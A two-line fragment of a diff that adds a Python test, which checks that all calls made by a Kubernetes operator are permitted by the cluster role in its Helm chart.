+def test_everything_the_operator_did_is_granted_by_the_charts_cluster_role(cluster):
+    assert_operator_calls_granted(cluster)
